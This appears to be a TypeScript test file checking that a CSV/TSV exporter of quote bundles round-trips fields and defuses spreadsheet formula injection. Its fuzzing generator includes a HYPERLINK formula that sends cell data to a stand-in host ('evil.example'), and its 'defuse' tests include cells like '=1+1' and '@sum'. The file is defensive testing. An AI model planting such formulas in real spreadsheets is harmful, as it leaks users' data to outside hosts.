import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Bundle } from '../model/bundle.ts';
import { wellFormed } from '../model/well-formed.ts';
import { COLUMNS, columnsOf, defuse, restoreCell } from './csv.ts';
import type { FormatId } from './format.ts';
import { readCsv } from './read-csv.ts';
import { finish, hardBundle, hostile, hostileBundle, written } from './testing.ts';
import { viewOf } from './view.ts';

const read = (id: FormatId, text: string): string[][] => {
  const { data, errors } = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), {
    delimiter: { csv: ',', 'csv-excel': ';', tsv: '\t' }[id as 'csv'],
    newline: '\r\n',
    skipEmptyLines: true,
  });
  expect(errors).toEqual([]);
  return data;
};

/** Bundles whose words are made of what programs cut at, and of what they run. */
const separators = () =>
  fc.array(fc.constantFrom(...',;|\t\r\n"\'=+-@＝ a1', 'HYPERLINK("http://evil.example/?"&A1)'), { maxLength: 14 }).map((parts) => {
    const bundle = hardBundle();
    const text = parts.join('');
    const [first, ...rest] = bundle.quotes;
    const quote = { ...first!, text, note: `${text}x`, speakerName: text, outlet: `b${text}`, tags: [text, '=2'], cue: null, description: text };
    delete (quote as Partial<typeof quote>).office;
    return { ...bundle, quotes: [quote, ...rest], articles: bundle.articles.map((article) => ({ ...article, title: text, author: text, tags: [text] })) };
  });

describe.each(['csv', 'csv-excel', 'tsv'] as const)('%s', (id) => {
  it('begins with a byte-order mark where a spreadsheet reads it, ends lines with CRLF, and has a row a quote', () => {
    const text = written(id, hardBundle());
    expect(text.startsWith('\uFEFF')).toBe(id !== 'csv');
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = read(id, text);
    expect(rows).toHaveLength(4);
    expect(rows[0]).toEqual(columnsOf(id === 'csv-excel' ? 'fr' : 'name').map(({ heading }) => heading));
    expect(rows[1]![COLUMNS.findIndex(({ name }) => name === 'words')]).toBe('La paix\u00A0🕊️ d’abord');
    expect(rows[1]![COLUMNS.findIndex(({ name }) => name === 'address')]).toBe(
      `https://exemple.example/actu?id=7&x=é#haut:~:text=${encodeURIComponent('élus\u202f: «')}-,${encodeURIComponent('La paix\u00A0🕊️ d’abord')}`,
    );
  });

  it('is read back by papaparse with every field intact, whatever the strings', () => {
    fc.assert(
      fc.property(hostileBundle(), (bundle) => {
        const rows = read(id, written(id, bundle)).slice(1);
        const view = viewOf(bundle);
        const expected = bundle.quotes.map((quote) => columnsOf(id === 'csv-excel' ? 'fr' : 'name').map(({ value }) => wellFormed(value(quote, view, 'fr'))));
        expect(rows.map((row) => row.map(restoreCell))).toEqual(expected);
      }),
    );
  });

  // What is cut at another separator than it was written with: a quoted cell of one dialect is several of the other.
  it.each([',', ';', '\t', '|'])('leaves no cell that a spreadsheet would run, cut at %j', (separator) => {
    const runs = (cell: string) => /^[\s'"]*[=+\-@＝＋－＠]/.test(cell) && !/^["\s]*'/.test(cell);
    const own = { csv: ',', 'csv-excel': ';', tsv: '\t' }[id];
    fc.assert(
      fc.property(separators(), (bundle) => {
        const text = written(id, bundle).replace(/^\uFEFF/, '');
        const strict = Papa.parse<string[]>(text, { delimiter: separator }).data.flat();
        // A program that knows no quotes at all.
        const plain = separator === own ? [] : text.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));
        for (const cell of [...strict, ...plain]) expect(runs(cell), cell).toBe(false);
      }),
    );
  });
});

it('a French table has French words, and the codes beside them', () => {
  const [head, row] = read('csv-excel', written('csv-excel', hardBundle()));
  const cell = (heading: string) => row![head!.indexOf(heading)];
  expect(['nature du locuteur', 'type', 'position', 'code nature du locuteur', 'code type', 'code position'].map(cell)).toEqual([
    'personne',
    'direct',
    'dit',
    'person',
    'direct',
    'says',
  ]);
});

describe('camp', () => {
  const minister = { ...hardBundle().quotes[0]!, speakerKind: 'person', camp: 'state-ML' } as const;
  const { camp: _, ...older } = minister;
  const bundle = { ...hardBundle(), quotes: [minister] };
  const column = (id: 'csv' | 'csv-excel', heading: string, of: Bundle = bundle) => {
    const [head, row] = read(id, written(id, of));
    return row![head!.indexOf(heading)];
  };
  it('is that of the office held on the day, beside what the speaker is', () => {
    expect([column('csv', 'camp'), column('csv', 'nature')]).toEqual(['state-ML', 'person']);
    expect([column('csv-excel', 'camp'), column('csv-excel', 'code camp'), column('csv-excel', 'nature du locuteur')]).toEqual([
      'État : Mali',
      'state-ML',
      'personne',
    ]);
  });
  it('is told anew for what was stored before there were camps', () => {
    const office = { body: 'armed_forces', country: 'BF', office: { fr: 'chef d’état-major', en: 'chief of staff' } } as unknown as NonNullable<
      typeof older.office
    >;
    expect(column('csv', 'camp', { ...bundle, quotes: [{ ...older, office }] })).toBe('state-BF');
  });
  it('comes home from a table of either time', () => {
    const back = (text: string) => finish(readCsv(text, '2025-01-01T00:00:00.000Z')).bundle.quotes[0]!;
    expect(back(written('csv', bundle))).toMatchObject({ camp: 'state-ML', speakerKind: 'person' });
    expect(back(written('csv-excel', bundle))).toMatchObject({ camp: 'state-ML', speakerKind: 'person' });
    const old = back('words,address,speaker,camp\r\nNous restons,https://a.example/1,Awa Diallo,person\r\n');
    expect([old.camp, old.speakerKind]).toEqual([undefined, 'person']);
  });
});

describe('defuse', () => {
  it.each(['=1+1', '+33 1', '-2', '@sum', '\tx', '\rx', '＝1', ' =1'])('puts an apostrophe before %j', (cell) => expect(defuse(cell)).toBe(`'${cell}`));
  it.each(['oui;=1', 'a,\t"@b', 'x| +1'])('also where another program would cut: %j', (cell) => expect(defuse(cell)).toMatch(/[;|\t]'["' ]*[=+@]/));
  it.each(['', 'a=1', "'tis", '« = »', 'a – b', 'oui, non', 'a ; b'])('leaves %j alone', (cell) => expect(defuse(cell)).toBe(cell));
  it('is undone by restoreCell', () => fc.assert(fc.property(hostile(), (cell) => restoreCell(defuse(cell)) === cell)));
});
